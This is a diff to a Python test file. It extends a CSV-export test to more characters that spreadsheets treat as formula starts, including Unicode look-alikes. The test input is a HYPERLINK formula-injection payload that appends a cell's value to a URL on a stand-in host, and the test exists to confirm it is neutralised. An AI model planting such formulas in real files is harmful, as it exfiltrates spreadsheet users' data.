@@ -207,7 +207,11 @@ def test_history_csv_follows_codecarbons_columns(client):
     ]
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+# The ASCII starts, then what spreadsheets trim or fold into them: a space, a line
+# feed, a no-break space, full-width and small forms.
+@pytest.mark.parametrize(
+    "start", ["=", "+", "-", "@", "\t", "\r", " ", "\n", "\u00a0", "＝", "＋", "﹣", "＠"]
+)
 def test_history_csv_cells_cannot_become_spreadsheet_formulas(client, start):
     client.get("/")
     code = f'{start}HYPERLINK("https://example.org/?x="&A1,"open")\nprint(1)'
